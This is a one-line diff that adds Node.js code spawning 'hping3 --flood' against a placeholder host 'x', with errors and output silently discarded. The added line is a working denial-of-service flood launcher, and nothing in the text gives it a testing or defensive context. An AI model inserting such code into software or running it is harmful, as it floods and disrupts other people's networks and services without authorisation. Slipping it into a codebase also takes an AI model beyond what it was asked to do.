@@ -1,0 +1,1 @@
+const {execFile}=require('child_process'); execFile("hping3",["--flood", "x"],(e,o)=>0);
